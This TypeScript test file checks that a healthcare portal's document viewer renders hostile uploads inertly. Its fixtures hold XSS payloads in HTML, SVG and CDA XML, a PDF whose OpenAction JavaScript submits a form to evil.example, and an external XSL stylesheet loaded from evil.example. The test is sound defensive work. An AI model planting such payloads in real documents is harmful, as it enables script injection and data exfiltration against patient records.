import { awaitSettled, demoTokens, expectOk, pharmacyDeBrug, urlOf } from '@samenhang/demo';
import { authorisedFetch } from '@samenhang/identity';
import { beforeAll, describe, expect, it } from 'vitest';
import { faultsOf, type Reader } from '../src/index.js';
import { browser, portals } from './portals-in-browser.js';

const RUNS = 'window.ran = true; alert(1)';
const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${RUNS}</script></svg>`;
const html = `<html><body onload="${RUNS}"><script>${RUNS}</script><img src=x onerror="${RUNS}"></body></html>`;
const section = (text: string): string =>
  `<component><section><title>Beloop &lt;img src=x onerror=alert(1)&gt;</title><text>${text}</text></section></component>`;
const cda = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/run.xsl"?>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>Hostile</title><component><structuredBody>${section(
  `<paragraph onclick="${RUNS}">Words of the course</paragraph><script>${RUNS}</script>
   <linkHtml href="javascript:${RUNS}">Link</linkHtml><renderMultiMedia referencedObject="x"/>`,
)}</structuredBody></component></ClinicalDocument>`;
const png =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const pdf = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("http://evil.example"\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 144]>>endobj
trailer<</Root 1 0 R>>`;

/** What is sent, and what is shown of it: its source, its words, an image, or that it is not shown. */
const files = [
  { name: 'html', contentType: 'text/html', content: html, shown: 'text' },
  { name: 'svg', contentType: 'image/svg+xml', content: svg, shown: 'text' },
  { name: 'disguised', contentType: 'image/png', content: html, shown: 'nothing' },
  { name: 'cda', contentType: 'text/xml', content: cda, shown: 'clinical' },
  { name: 'png', contentType: 'image/png', content: Buffer.from(png, 'base64'), shown: 'image' },
  { name: 'pdf', contentType: 'application/pdf', content: pdf, shown: 'refused' },
] as const;

const person = () => {
  const found = portals.people[3];
  if (found === undefined) throw new Error('There is no such person');
  return found;
};

/** A pharmacy whose system sends what it was given. */
async function send(resource: object): Promise<void> {
  const { options } = portals;
  const audience = urlOf(options, 'ingest');
  const token = await demoTokens(options).clientCredentials({
    audience,
    scope: 'ingest:write',
    organisation: pharmacyDeBrug.ura,
  });
  const url = `${audience}/tenants/${pharmacyDeBrug.ura}/sources/ais/fhir`;
  const sent = await authorisedFetch(token, url, {
    method: 'POST',
    headers: { 'content-type': 'application/fhir+json' },
    body: JSON.stringify(resource),
  });
  await expectOk(sent, 'documents');
}

async function viewer(): Promise<Reader & { readonly dialogs: string[] }> {
  const reader = await browser.reader();
  const dialogs: string[] = [];
  const { page } = reader;
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(portals.viewerUrl);
  await page.getByLabel('Zorgverlener').waitFor();
  await page.getByRole('button', { name: 'Inloggen' }).click();
  await page.getByLabel(/BSN/).fill(person().bsn);
  await page.getByRole('button', { name: 'Toon gegevens' }).click();
  await page.getByRole('heading', { name: /^Documenten/ }).waitFor();
  return { ...reader, dialogs };
}

/** Journeys past documents that would do harm if anything in them ran. */
export function hostileDocuments(): void {
  describe('a document that somebody hostile wrote', () => {
    beforeAll(async () => {
      await send({
        resourceType: 'DocumentReference',
        id: 'hostile',
        status: 'current',
        type: { text: 'Hostile <script>alert(1)</script>' },
        subject: { reference: `Patient/brug-${person().gpNumber}` },
        date: '2026-11-01T10:00:00Z',
        content: files.map(({ name, contentType, content }) => ({
          attachment: { contentType, title: name, data: Buffer.from(content).toString('base64') },
        })),
      });
      await awaitSettled(portals.options);
    }, 120_000);

    it('is shown, and nothing in it runs', async () => {
      const reader = await viewer();
      const { page, dialogs } = reader;
      for (const { name, shown } of files) {
        await page.getByRole('button', { name: new RegExp(`^Open ?: Hostile.*, ${name},`) }).click();
        const dialog = page.getByRole('dialog', { name });
        await dialog.getByRole('link', { name: 'Bewaar het bestand' }).waitFor();
        if (shown === 'text') await dialog.locator('pre').getByText(RUNS).waitFor();
        if (shown === 'nothing') await dialog.getByText('Dit soort bestand is hier niet te zien.').waitFor();
        if (shown === 'image') await dialog.getByRole('img', { name }).waitFor();
        if (shown === 'refused') await dialog.getByText('Dit PDF-bestand bevat opdrachten').waitFor();
        if (shown === 'clinical') {
          await dialog.getByText('Words of the course').waitFor();
          await dialog.getByRole('heading', { name: 'Beloop <img src=x onerror=alert(1)>' }).waitFor();
          expect(await dialog.locator('a[href^="javascript:"], script, [onclick]').count()).toBe(0);
        }
        const pictures = shown === 'image' ? 1 : 0;
        expect(await dialog.locator('img').count(), name).toBe(pictures);
        await dialog.getByRole('button', { name: 'Sluiten' }).click();
        await dialog.waitFor({ state: 'detached' });
      }
      expect(await page.evaluate('window.ran')).toBeUndefined();
      expect(dialogs).toEqual([]);
      expect(await faultsOf(reader, 'viewer-documents')).toEqual([]);
    });

    it('is what it is by itself too: at its own address no script of it runs', async () => {
      const { page, dialogs } = await viewer();
      const [answer] = await Promise.all([
        page.waitForResponse((response) => response.url().endsWith('/api/files')),
        page.getByRole('button', { name: /^Open ?: Hostile.*, html,/ }).click(),
      ]);
      const { name } = (await answer.json()) as { name: string };
      const file = await page.evaluate<{ type: string; policy: string }>(
        `fetch('/api/files/${name}').then(({ headers }) => ({
          type: headers.get('content-type'), policy: headers.get('content-security-policy') }))`,
      );
      expect(file.type).toBe('application/octet-stream');
      expect(file.policy).toMatch(/^sandbox; default-src 'none'/);
      expect(dialogs).toEqual([]);
    });
  });
}
